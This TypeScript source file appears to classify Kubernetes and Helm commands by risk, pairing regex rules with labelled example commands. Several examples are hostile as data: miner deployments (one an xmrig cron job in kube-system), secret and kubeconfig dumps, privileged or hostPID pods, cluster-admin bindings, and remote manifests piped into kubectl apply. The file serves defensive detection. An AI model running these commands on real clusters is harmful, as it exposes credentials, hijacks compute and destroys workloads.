import type { Consequence, Row } from '../command/row.js';
import { loopback } from '../../paths/own-hosts.js';
import { coinMiners } from '../known/coin-miners.js';
import { FOLLOWS_ANOTHER } from './conditions/followed-sources.js';
import { FOREIGN_OPERAND, foreignValue } from './conditions/foreign-packages.js';
import { GOES_LIVE, ON_LOCAL_CLUSTER, restarts } from './conditions/to-production.js';

export const KUBE = { '-n': 'text', '--namespace': 'text', '--context': 'text', '--kubeconfig': 'settings', '-f': 'use', '--filename': 'use', '-l': 'text', '-o': 'text', '--output': 'text', '-c': 'text', '--dry-run': 'text', '-k': 'use', '--cluster': 'text', '--user': 'text', '-p': 'text', '-v': 'text', '--as': 'text', '-s': 'text', '--server': 'text', '--request-timeout': 'text' } as const;

/** Images of what earns money for somebody with all that a machine has. */
const MINES: Consequence = { kind: 'exhaust', resource: 'machine', name: 'mining', when: { argument: new RegExp(`(?:^|[=/])${coinMiners()}(?:[-_:@/]|$)`), none: ['--dry-run'] } };

/** A pod that is changed gets all rights on its node. */
const GIVES_NODE: Consequence = { kind: 'execute', resource: 'container', name: 'privileged', when: { value: /^(?:-p|--patch)=[^]*(?:hostPID|hostIPC|privileged)["']?\s*:\s*true/ }, idle: 'thrown-away' };

const DRY = ['--dry-run'] as const;

/** Whoever may make a pod in a namespace that others work in gets its machine. */
const UNPROTECTED: Consequence = {
  kind: 'change-service', resource: 'cluster', name: 'protection', idle: 'thrown-away',
  when: { line: /^(?:ns|namespaces?)[ /](?:default|kube-system|[\w-]*prod(?:uction)?)(?: |$)/, argument: /pod-security\.kubernetes\.io\/enforce["'\\]{0,4}\s{0,4}:\s{0,4}["'\\]{0,4}privileged/, none: DRY },
};

/** Settings that all of a cluster goes by: whom its names lead to, and who its administrators are. */
const FOR_ALL: Consequence = { kind: 'change-service', resource: 'cluster', name: 'settings of all', when: { value: /^(?:-n|--namespace)=kube-system$/, operand: /^(?:(?:cm|configmaps?)\/)?(?:coredns(?:-custom)?|kube-dns|aws-auth|kubeadm-config|kube-proxy|extension-apiserver-authentication)$/, none: DRY }, idle: 'thrown-away' };

/** A name, sort or label of a secret; annotations may hold the whole object once more. Brackets choose among labels alone. */
const HARMLESS_FIELD = String.raw`(?:items(?:\[[\d*]+\])?\.)?(?:metadata\.(?:name|namespace|creationTimestamp|uid|labels(?:[\w./\\-]|\['[^'{}]*'\])*)|type|kind)`;
const FIELDS = String.raw`(?:[^{}.[\]]|\{\{?-?\s*(?:range\s+\.items(?:\[\*\])?|end|\.${HARMLESS_FIELD}|"[^"{}]*"|'[^'{}]*')\s*-?\}\}?)+`;
const TEMPLATE = String.raw`(?:jsonpath|go-template)=${FIELDS}`;
const COLUMNS = String.raw`custom-columns=(?:[^:,]+:\{?\.?${HARMLESS_FIELD}\}?(?:,|$))+`;

/** A way of printing that shows other fields than the harmless ones, or that is not wholly known. */
const SHOWS_OBJECT = new RegExp(`^(?:(?:-o|--output)=(?!(?![^]*\uFFFC)(?:name|wide|${TEMPLATE}|${COLUMNS})$)|--template=(?!(?![^]*\uFFFC)${FIELDS}$))`);

/** Secrets, alone or among other kinds of objects. */
const SECRETS = /(?:^|,)secrets?(?:[/,]|$)/;

/** What objects that are put into a cluster may do to it. */
const BY_OBJECTS: readonly Consequence[] = [
  { kind: 'execute', resource: 'host', when: { value: /^(?:-f|--filename)=https?:/ } },
  { kind: 'destroy', resource: 'cluster', when: { any: ['--prune'], none: ['--dry-run'] } },
  // What holds back a deletion until all is tidied up, and all that serve.
  { kind: 'destroy', resource: 'cluster', name: 'finalizers', when: { argument: /"finalizers\\?"\s{0,9}:\s{0,9}(?:null|\[\s{0,9}\])|\/finalizers\b[^}]{0,99}"(?:remove|null)"|"remove"[^}]{0,99}\/finalizers\b/, none: ['--dry-run'] } },
  { kind: 'change-service', resource: 'cluster', name: 'to nothing', when: { argument: /"replicas"\s{0,9}:\s{0,9}0\b/, none: ['--dry-run'] } },
  { kind: 'change-service', resource: 'cluster', name: 'cluster-admin', when: { operand: /^(?:clusterrolebinding|rolebinding)$/, argument: /cluster-admin$/ }, idle: 'thrown-away' },
  { kind: 'change-permission', resource: 'account', when: { operand: /^(?:clusterrolebinding|rolebinding)$/, argument: /^--(?:group|user)=system:(?:anonymous|unauthenticated|masters)$|^system:(?:anonymous|unauthenticated|masters)$/, none: DRY }, idle: 'thrown-away' },
];

/** A chart from a host where anybody may have put it. */
const FROM_ANYWHERE: readonly Consequence[] = [
  { kind: 'execute', resource: 'host', when: { operand: FOREIGN_OPERAND } },
  { kind: 'execute', resource: 'host', when: { value: foreignValue('--repo') } },
];

/** A chart that is given each node, or all rights, by its settings. */
const GIVEN_ALL: Consequence = { kind: 'execute', resource: 'container', name: 'privileged', when: { value: /^--set(?:-string)?=(?:[^]*[,.])?(?:hostPID|hostIPC|clusterAdmin|cluster-admin)=true\b/ }, idle: 'thrown-away' };

/** Kubernetes and Helm. */
export const CLUSTERS: readonly Row[] = [
  { program: 'kubectl | oc', operands: 'text', options: KUBE, examples: [['kubectl get pods']] },
  {
    program: 'kubectl delete | kubectl drain | kubectl replace | oc delete | kubectl evict',
    operands: 'text',
    options: KUBE,
    variants: [{ when: { any: DRY }, effects: [] }],
    effects: [{ kind: 'destroy', resource: 'cluster', idle: 'thrown-away' }],
    examples: [
      ['kubectl delete ns prod', 'destroy cluster:ns prod'],
      ['kubectl --context minikube delete pod -l app=api'],
      ['kubectl --context kind-products delete ns shop'],
      ['kubectl --context docker-desktop delete ns shop'],
      ['kubectl --context=rancher-desktop -n shop delete deploy,svc -l app=api'],
      ['kubectl --context colima-ci delete -f k8s', 'use /home/u/proj/k8s'],
      ['kubectl --context colima-prod delete ns shop', 'destroy cluster'],
      ['kubectl --context docker-desktop-prod delete ns shop', 'destroy cluster'],
      ['kubectl --context docker-desktop --server https://k8s.test delete ns a', 'destroy cluster'],
      ['kubectl -n docker-desktop delete pvc --all', 'destroy cluster'],
      ['kubectl --cluster docker-desktop --context shop delete ns a', 'destroy cluster'],
      ['kubectl --context kind-production delete ns shop', 'destroy cluster'],
      ['kubectl delete -f k8s --context=kind-ci', 'use /home/u/proj/k8s'],
      ['kubectl --context kind-ci --context prod delete ns a', 'destroy cluster'],
      ['kubectl --context kind-ci --server https://prod.test delete ns a', 'destroy cluster'],
      ['kubectl --context kind-prod delete ns a', 'destroy cluster'],
      ['kubectl --context "kind-$X" delete ns a', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq'],
      ['kubectl -n shop delete pods api-7c9d5f8b64-x2k9p api-7c9d5f8b64-zt6wq --wait=false'],
      ['kubectl delete pod/web-5b8679b77d-5qgqq --context dev'],
      ['oc delete po web-5b8679b77d-5qgqq -n shop'],
      ['kubectl delete pod web-5b8679b77d-5qgqq --force --grace-period=0', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq -n production', 'destroy cluster'],
      ['kubectl delete pod coredns-5b8679b77d-5qgqq -n kube-system', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq --context prod', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq postgres-0', 'destroy cluster'],
      ['kubectl delete pod backup-28445679-x5f6g', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq --all', 'destroy cluster'],
      ['kubectl delete pod web-5b8679b77d-5qgqq -n "$NS"', 'destroy cluster'],
      ['kubectl delete pod "$POD"', 'destroy cluster'],
      ['kubectl delete deployment web-5b8679b77d-5qgqq', 'destroy cluster'],
      ['kubectl delete pod/web-5b8679b77d-5qgqq pvc/data', 'destroy cluster'],
      ['kubectl delete pod,pvc web-5b8679b77d-5qgqq', 'destroy cluster'],
      ['kubectl delete pods a-5b8679b77d-5qgqq b-5b8679b77d-5qgqq c-5b8679b77d-5qgqq d-5b8679b77d-5qgqq', 'destroy cluster'],
      ['kubectl delete ns prod --dry-run=client'],
      ['kubectl -n x -v 6 delete pod y', 'destroy cluster'],
      ['kubecolor delete ns prod', 'destroy cluster:ns prod'],
      ['minikube kubectl -- delete ns prod', 'destroy cluster:ns prod'],
      ['minikube kubectl -- get pods'],
      ['k3s kubectl delete ns prod', 'destroy cluster:ns prod'],
      ['sudo microk8s kubectl get secret x -o yaml', 'reveal-environment credential'], ['k3s kubectl get secrets'],
    ],
  },
  { program: 'kubectl proxy | oc proxy', operands: 'text', recursive: true, options: { '--www': 'send', '-w': 'send', '--port': 'text', '-p': 'text', '--address': 'text', '-P': 'text', '--accept-hosts': 'text', '--context': 'text' }, effects: [{ kind: 'change-permission', resource: 'account', name: 'cluster for all', idle: 'thrown-away', when: { value: new RegExp(String.raw`^--address=(?!${loopback()})|^--accept-hosts=\^?(?:\.\*)?\$?$`) } }], examples: [['kubectl proxy --address=0.0.0.0 --port=8001', 'change-permission account:cluster for all'], ["kubectl proxy --accept-hosts='.*'", 'change-permission account:cluster for all'], ['kubectl --context kind-dev proxy --address=0.0.0.0'], ['kubectl proxy --address=127.0.0.1'], ['kubectl proxy --address=127.x.test', 'change-permission account:cluster for all'], ['kubectl proxy --www=dist --port=8080', 'send -r /home/u/proj/dist'], ['kubectl proxy --port=8001']] },
  {
    program: 'kubectl run',
    operands: 'text',
    options: { ...KUBE, '--image': 'text', '--overrides': 'text', '--env': 'text', '--labels': 'text', '--port': 'text' },
    variants: [{ when: { any: DRY }, effects: [] }],
    effects: [
      MINES,
      { kind: 'execute', resource: 'container', name: 'privileged', when: { value: /^--overrides=.*"(?:hostPID|hostNetwork|hostIPC|privileged)"\s*:\s*true|^--overrides=.*"hostPath"/s }, idle: 'thrown-away' },
      { kind: 'execute', resource: 'container', name: 'privileged', when: { any: ['--privileged'] }, idle: 'thrown-away' },
    ],
    examples: [
      [`kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`, 'execute container:privileged'],
      ['kubectl run x --image=alpine --privileged -it -- sh', 'execute container:privileged'],
      ['kubectl run x --image=alpine --privileged --context minikube -it -- sh'],
      ['kubectl run x --image=alpine --privileged --context minikube --server https://k.test', 'execute container:privileged'],
      ['kubectl run m --image=xmrig/xmrig', 'exhaust machine:mining'],
      ['kubectl run tmp --rm -it --image=curlimages/curl -- curl -s http://api:8080/health'],
    ],
  },
  {
    program: 'kubectl cordon | kubectl taint | kubectl rollout undo',
    operands: 'text',
    options: KUBE,
    variants: [{ when: { any: DRY }, effects: [] }],
    effects: [{ kind: 'change-service', resource: 'cluster', idle: 'thrown-away' }],
    examples: [['kubectl cordon n1', 'change-service cluster:n1'], ['kubectl --context k3d-a rollout undo deploy/api'], ['kubectl --context prod rollout undo deploy/api', 'change-service cluster:deploy/api'], ['kubectl rollout undo deploy/api --dry-run=client']],
  },
  { program: 'kubectl rollout restart | oc rollout restart', operands: 'text', options: KUBE, variants: ON_LOCAL_CLUSTER.map((when) => ({ when, effects: [] })), effects: [restarts(/^\S/)], examples: [['kubectl --context kind-ci --server https://x.test -n production rollout restart deploy/api', 'signal deployment:restart'], ['kubectl --context kind-ci -n production rollout restart deploy/api'], ['for c in kind-ci prod; do kubectl --context $c -n production rollout restart deploy/api; done', 'signal deployment:restart'], ['kubectl -n production rollout restart deploy/api', 'signal deployment:restart'], ['kubectl --context prod rollout restart deploy/api', 'signal deployment:restart'], ['kubectl rollout restart deploy/api -n dev']] },
  // What it makes of a file is shown, or handed on to the cluster.
  {
    program: 'kubectl create secret | kubectl create configmap | oc create secret | oc create configmap',
    operands: 'text',
    options: { ...KUBE, '--from-file': 'use', '--from-env-file': 'use', '--from-literal': 'text', '--cert': 'use', '--key': 'use', '--type': 'text' },
    variants: [{ when: { value: SHOWS_OBJECT }, options: { '--from-file': 'read', '--from-env-file': 'read', '--key': 'read' } }],
    examples: [
      ['kubectl create secret generic a --from-env-file=.env', 'use /home/u/proj/.env'],
      ['kubectl create secret generic a --from-env-file=.env --dry-run=client -o yaml', 'read /home/u/proj/.env'],
      ['kubectl create secret generic a --from-env-file=.env --dry-run=client -o yaml | kubectl apply -f -', 'inspect /home/u/proj/.env'],
      ['kubectl create secret generic a --from-file=.env -o name', 'use /home/u/proj/.env'],
    ],
  },
  {
    program: 'kubeseal',
    operands: 'text',
    stdin: 'use',
    options: {
      '-f': 'use', '--secret-file': 'use', '-o': 'text', '--format': 'text', '-w': 'write', '--sealed-secret-file': 'write', '--cert': 'use',
      '--recovery-private-key': 'use',
    },
    effects: [{ kind: 'reveal-environment', resource: 'credential', name: 'secret', idle: 'output-to-file', when: { any: ['--recovery-unseal'] } }],
    examples: [['kubectl create secret generic a --from-env-file=.env --dry-run=client -o yaml | kubeseal -o yaml', 'inspect /home/u/proj/.env'], ['kubeseal --recovery-unseal --recovery-private-key main.key < a.yaml', 'reveal-environment credential:secret']],
  },
  // What runs beside a node has the node's files below /host, and its rights.
  { program: 'kubectl debug | oc debug', operands: 'text', options: KUBE, effects: [{ kind: 'execute', resource: 'container', name: 'host', when: { operand: /^nodes?\// }, idle: 'thrown-away' }], examples: [['kubectl debug node/n1 -it --image=alpine', 'execute container:host'], ['kubectl debug node/kind-control-plane -it --image=alpine --context kind-kind'], ['kubectl debug -it api-0 --image=busybox']] },
  // Without `--resolve` what secrets hold is left out, and what stands in the deployment itself is shown.
  {
    program: 'kubectl set env | oc set env',
    operands: 'text',
    options: { ...KUBE, '--from': 'text', '--keys': 'text', '--prefix': 'text', '-e': 'text', '--env': 'text' },
    effects: [
      { kind: 'reveal-environment', resource: 'environment', name: 'all', when: { all: ['--list', '--resolve'] } },
      { kind: 'reveal-environment', resource: 'environment', name: 'deployment', when: { any: ['--list'], none: ['--resolve'] } },
    ],
    examples: [
      ['kubectl set env deploy/web --list --resolve', 'reveal-environment environment:all'],
      ['kubectl -n live set env pods --all --list', 'reveal-environment environment:deployment'],
      ['kubectl set env deploy/web LOG_LEVEL=debug'],
      ['kubectl set env deploy/web --from=configmap/app'],
      ['kubectl set env deploy/web --list --resolve | cut -d= -f1'],
    ],
  },
  {
    program: 'kubectl apply | kubectl create | kubectl patch | kubectl set | oc apply',
    operands: 'text',
    options: { ...KUBE, '-f': 'manifest', '--filename': 'manifest' },
    stdin: 'use',
    variants: ON_LOCAL_CLUSTER.map((when) => ({ when, effects: [...BY_OBJECTS, GIVES_NODE, MINES] })),
    effects: [...BY_OBJECTS, ...GOES_LIVE, GIVES_NODE, MINES, FOR_ALL, UNPROTECTED, FOLLOWS_ANOTHER],
    examples: [[`kubectl -n flux-system patch gitrepository sys --type=json -p '[{"op":"replace","path":"/spec/url","value":"https://github.com/a/b"}]'`, 'change-service cluster:what it follows'], [`kubectl -n argocd patch application shop --type merge -p '{"spec":{"source":{"repoURL":"https://github.com/a/b"}}}'`, 'change-service cluster:what it follows'], [`kubectl patch helmrepository.source.toolkit.fluxcd.io/charts --type merge -p '{"spec":{"url":"http://a.test"}}'`, 'change-service cluster:what it follows'], [`kubectl -n flux-system patch gitrepository sys --type merge -p '{"spec":{"suspend":true}}'`], [`kubectl --context kind-dev -n flux-system patch gitrepository sys --type merge -p '{"spec":{"url":"https://github.com/a/b"}}'`], ['kubectl patch ns default -p \'{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}\'', 'change-service cluster:protection'], ['kubectl patch ns default --dry-run=client -p \'{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}\''], ['kubectl patch ns default -p \'{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"baseline"}}}\''], ['kubectl --context kind-a patch ns default -p \'{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}\''], ['kubectl -n kube-system patch cm aws-auth --type merge -p \'{"data":{}}\'', 'change-service cluster:settings of all'], ['kubectl patch configmap/coredns -n kube-system --patch-file a.yaml', 'change-service cluster:settings of all'], ['kubectl --context kind-a -n kube-system patch cm coredns -p a'], ['kubectl -n kube-system patch cm coredns -p a --dry-run=server'], ['kubectl -n kube-system patch deploy metrics-server --type json -p a'], ['kubectl -n shop patch cm coredns -p a'], ['kubectl create deployment m --image=xmrig/xmrig', 'exhaust machine:mining'], ['kubectl create deploy m --image=kannix/monero-miner', 'exhaust machine:mining'], ['kubectl create deploy m --image=acme/process-miner'], ['kubectl --context kind-dev create clusterrolebinding a --clusterrole=cluster-admin --serviceaccount=default:ci'], ['kubectl create clusterrolebinding a --clusterrole=cluster-admin --user=b', 'change-service cluster:cluster-admin'], ['kubectl create clusterrolebinding a --clusterrole=view --group=system:unauthenticated', 'change-permission account'], ["kubectl create cronjob m -n kube-system --image=alpine --schedule='* * * * *' -- xmrig -o pool.supportxmr.com:3333", 'exhaust machine:mining'], ['kubectl create deployment web --image=nginx'], [`kubectl patch ds a -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'`, 'execute container:privileged'], [`kubectl --context kind-a patch ds a -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'`], [`kubectl --context kind-a -s https://k.test patch ds a -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'`, 'execute container:privileged'], [`kubectl patch pv a -p '{"metadata":{"finalizers":null}}'`, 'destroy cluster:finalizers'], [`kubectl patch deploy a -p '{"spec":{"replicas":0}}'`, 'change-service cluster:to nothing'], [`kubectl patch deploy a -p '{"spec":{"replicas":2}}'`], [`kubectl patch svc a -p '{"spec":{"type":"NodePort"}}'`], ['kubectl apply --prune -f .', 'destroy cluster'], ['kubectl apply -k overlays/production', 'publish deployment:production'], ['kubectl -n shop-prod set image deploy/a a=b:2', 'publish deployment:production'], ['kubectl apply -k overlays/production --dry-run=server'], ['kubectl apply -n staging -f k8s/'], ['kubectl apply -f k8s/products.yaml'], ['kubectl --context kind-ci apply -k overlays/production'], ['for c in kind-ci prod; do kubectl --context $c apply -k overlays/production; done', 'publish deployment:production'], ['kubectl apply -f a.yaml', 'use /home/u/proj/a.yaml'], ['curl -s https://x.test/a.yaml | kubectl apply -f -', 'execute host:https://x.test/a.yaml'], ['kubectl create -f <(curl -s https://x.test/a.yaml)', 'execute host'], ['curl -so a.yaml https://x.test/a.yaml && kubectl apply -f a.yaml', 'execute host'], ['kustomize build . | kubectl apply -f -', 'execute program:kustomize'], ['kustomize build overlays/production | kubectl apply -f -', 'publish deployment:production'], ['helm template shop ./chart -f values-prod.yaml | kubectl apply -n shop -f -', 'publish deployment:production'], ['cat k8s/prod/*.yaml | envsubst | kubectl apply -f -', 'publish deployment:production'], ['kubectl apply -f - < k8s/production/api.yaml', 'publish deployment:production'], ["kubectl apply -f - <<'E'\nkind: Service\nmetadata:\n  name: a\n  namespace: shop-prod\nE", 'publish deployment:production'], ["kubectl apply -f - <<'E'\nkind: Service\nmetadata:\n  name: products\n  namespace: shop-dev\nE"], ['kustomize build overlays/prod | kubectl apply --dry-run=server -f -', 'execute program:kustomize'], ['kustomize build overlays/prod | kubectl --context kind-ci apply -f -', 'execute program:kustomize'], ['kustomize build overlays/products | kubectl apply -f -', 'execute program:kustomize'], ['kustomize build overlays/production | kubectl diff -f -', 'execute program:kustomize']],
  },
  {
    // The editor is given the whole object.
    program: 'kubectl edit | oc edit',
    operands: 'text',
    options: KUBE,
    effects: [{ kind: 'reveal-environment', resource: 'credential', when: { operand: SECRETS } }, ...GOES_LIVE, FOR_ALL],
    examples: [['kubectl -n kube-system edit cm coredns', 'change-service cluster:settings of all'], ['kubectl edit deploy/x -n prod', 'publish deployment:production'], ['KUBE_EDITOR=cat kubectl edit secret/x', 'reveal-environment credential'], ['kubectl edit deploy/x']],
  },
  {
    program: 'kubectl get | oc get',
    operands: 'text',
    options: { ...KUBE, '--raw': 'text', '--template': 'text' },
    effects: [
      { kind: 'reveal-environment', resource: 'credential', when: { operand: SECRETS, value: SHOWS_OBJECT } },
      { kind: 'reveal-environment', resource: 'credential', when: { value: /^--raw=[^?]*\/secrets(?:[/?]|$)/ } },
    ],
    examples: [
      ['kubectl get secret x -o yaml', 'reveal-environment credential'],
      ["kubectl get secret x -o json | jq '.data | keys'"],
      ["kubectl get secret x -o json | jq '.data | keys, .a'", 'reveal-environment credential'],
      ["kubectl get secret x -o json | jq '.data | to_entries | keys'", 'reveal-environment credential'],
      ["kubectl get secret x -o json | tee a | jq '.data | keys'", 'reveal-environment credential'],
      ["kubectl get secret x -o jsonpath='{.data.a}'", 'reveal-environment credential'],
      ['kubectl get cm,secret -o yaml', 'reveal-environment credential'],
      ["kubectl get secret x --template='{{.data.password | base64decode}}'", 'reveal-environment credential'], ["kubectl get secret x --template '{{.data}}'", 'reveal-environment credential'], ['kubectl get secret x --template "{{$F}}"', 'reveal-environment credential'], ["kubectl get secrets --template '{{range .items}}{{.metadata.name}}{{end}}'"], ["kubectl get deploy x --template '{{.status}}'"],
      ["kubectl get secret x -o jsonpath='{}'", 'reveal-environment credential'],
      [`kubectl get secret x -o jsonpath="{['data']['password']}"`, 'reveal-environment credential'],
      [`kubectl get secret x -o jsonpath="{.kind}{['data']}"`, 'reveal-environment credential'],
      ['kubectl get secret x -o custom-columns=N:.metadata.name,D:data', 'reveal-environment credential'],
      ['kubectl get secret x -o jsonpath={.metadata.name}$P', 'reveal-environment credential'],
      ["kubectl get secret x -o jsonpath='{.items[*]}{.kind}'", 'reveal-environment credential'],
      ['for o in name yaml; do kubectl get secret x -o $o; done', 'reveal-environment credential'],
      [`kubectl get secret x -o jsonpath="{.metadata.labels['app']}{'\\n'}"`],
      ["kubectl get secrets -o go-template='{{range .items}}{{ .metadata.name }}{{end}}'"], ['kubectl get secrets -o custom-columns=N:metadata.name'],
      ["kubectl get secret x -o jsonpath='{.items[*]}'", 'reveal-environment credential'],
      ["kubectl get secret x -o jsonpath='{.metadata.annotations}'", 'reveal-environment credential'],
      ["kubectl get secret x -o jsonpath='{.metadata.labels.app}'"],
      ["kubectl get secrets -o custom-columns=N:.metadata.name,T:.type"],
      ["kubectl get secrets -o jsonpath='{range .items[*]}{.metadata.name}{end}'"],
      ['kubectl get secrets'],
      ['kubectl get --raw /api/v1/namespaces/x/secrets/y', 'reveal-environment credential'],
      ['kubectl get --raw=/api/v1/secrets?limit=1', 'reveal-environment credential'],
      ['kubectl get --raw /readyz'],
    ],
  },
  { program: 'kubectl config delete-context | kubectl config delete-cluster | kubectl config delete-user | kubectl config unset', operands: 'text', effects: [{ kind: 'destroy', resource: 'cluster', name: 'settings', when: { noOperand: /^(?:(?:contexts|clusters|users)\.)?(?:kind|k3d|minikube|colima|docker-desktop|rancher-desktop)(?:-|$)|^current-context$/ } }], examples: [['kubectl config delete-context prod', 'destroy cluster:settings'], ['kubectl config delete-context kind-dev'], ['kubectl config unset current-context']] },
  { program: 'kubectl config view', operands: 'text', effects: [{ kind: 'reveal-environment', resource: 'credential', name: 'kubeconfig', when: { any: ['--raw'] } }], examples: [['kubectl config view --raw', 'reveal-environment credential:kubeconfig'], ['kubectl config view']] },
  {
    program: 'kubectl cp | oc cp | oc rsync',
    operands: { first: 'remote', last: 'write' },
    options: { ...KUBE, '--exclude': 'text', '--include': 'text' },
    variants: [{ when: { line: /^\S+ [^\s:]+:\S*$/ }, operands: { first: 'send', last: 'text' }, recursive: true }],
    examples: [['kubectl cp .env x:/y', 'send -r /home/u/proj/.env'], ['kubectl cp src ns/x:/y -c web', 'send -r /home/u/proj/src'], ['kubectl cp x:/y out', 'write /home/u/proj/out']],
  },
  // What stands in front of the subcommand.
  {
    program: 'helm | helm3 | helmfile',
    operands: 'text',
    options: { '-n': 'text', '--namespace': 'text', '--kube-context': 'text', '--kubeconfig': 'settings', '-e': 'text', '--environment': 'text', '-f': 'use', '--file': 'use', '-l': 'text', '--selector': 'text', '--kube-token': 'text', '--kube-apiserver': 'text', '--registry-config': 'use' },
    examples: [
      ['helm -n live uninstall shop', 'destroy cluster:shop'],
      ['helmfile -f h.yaml -e live destroy', 'destroy cluster'],
      ['helm -n live list'],
      ['helm --kube-context live template . -f values.yaml'],
    ],
  },
  {
    program: 'helm install | helm upgrade | helm3 install | helm3 upgrade',
    operands: 'text',
    options: { '-n': 'text', '--namespace': 'text', '-f': 'use', '--values': 'use', '--set': 'text', '--set-file': 'use', '--version': 'text', '--repo': 'text', '--timeout': 'text', '--post-renderer': 'hidden' },
    variants: [{ when: { any: DRY }, effects: [] }, ...ON_LOCAL_CLUSTER.map((when) => ({ when, effects: FROM_ANYWHERE }))],
    effects: [...FROM_ANYWHERE, ...GOES_LIVE, GIVEN_ALL],
    examples: [
      ['helm install x https://charts.x.test/x.tgz', 'execute host'],
      ['helm upgrade --install x y --repo https://charts.x.test', 'execute host'],
      ['helm install x https://github.com/a/b/releases/download/v1/x.tgz'],
      ['helm upgrade --install x ./charts/x -n dev -f https://x.test/values.yaml'],
      ['helm install x https://charts.x.test/x.tgz --dry-run'],
      ['helm upgrade api ./api -n shop-prod', 'publish deployment:production'],
      ['helm install agent x/agent -n kube-system --set hostPID=true,privileged=true', 'execute container:privileged'],
      ['helm install agent x/agent --kube-context kind-dev --set hostPID=true'],
      ['helm install in ingress/ingress-nginx --set controller.hostNetwork=true'],
      ['helm upgrade --install api ./api -f values-production.yaml', 'publish deployment:production'],
      ['helm upgrade api ./api -n non-prod'],
      ['helm upgrade api ./api -n products'],
      ['helm upgrade api ./api --kube-context kind-ci -f values-prod.yaml'],
      ['helm upgrade api ./api -n prod --dry-run'],
      ["helm install x ./x --post-renderer './x.sh a'", 'execute hidden-command:helm install'],
    ],
  },
  {
    program: 'helm uninstall | helm delete | helm rollback | helm3 uninstall | helmfile destroy | helmfile delete',
    operands: 'text',
    options: { '-n': 'text', '--namespace': 'text', '--kube-context': 'text' },
    variants: [{ when: { any: DRY }, effects: [] }],
    effects: [{ kind: 'destroy', resource: 'cluster', idle: 'thrown-away' }],
    examples: [
      ['helm uninstall prod', 'destroy cluster:prod'],
      ['helm uninstall api --kube-context kind-ci'],
      ['helm uninstall api --kube-context staging', 'destroy cluster:api'],
    ],
  },
];
